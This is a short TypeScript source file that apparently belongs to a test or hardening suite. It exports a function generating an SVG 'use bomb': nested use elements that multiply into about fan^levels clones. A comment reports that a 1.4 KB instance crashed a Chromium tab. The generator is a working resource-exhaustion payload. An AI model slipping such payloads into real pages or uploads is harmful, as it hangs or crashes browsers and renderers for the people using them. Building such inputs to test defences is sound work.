/**
 * An SVG "use bomb" (SVG 2 §5.6: each `use` clones what it references, nested uses included): groups
 * of `fan` uses of the group before, `levels` deep, one use of the last drawn, about fan^levels clones.
 * Hostile round 31: 10^5 held Chromium's page about 20 s, 10^7 (1.4 KB) crashed the tab.
 */
export function useBomb(levels: number, fan = 10, href = 'href'): string {
  let defs = '<g id="g0"><rect width="1" height="1" fill="red"/></g>';
  for (let i = 1; i <= levels; i++) defs += `<g id="g${i}">${`<use ${href}="#g${i - 1}"/>`.repeat(fan)}</g>`;
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="72" height="72"><defs>${defs}</defs><use ${href}="#g${levels}"/></svg>`;
}
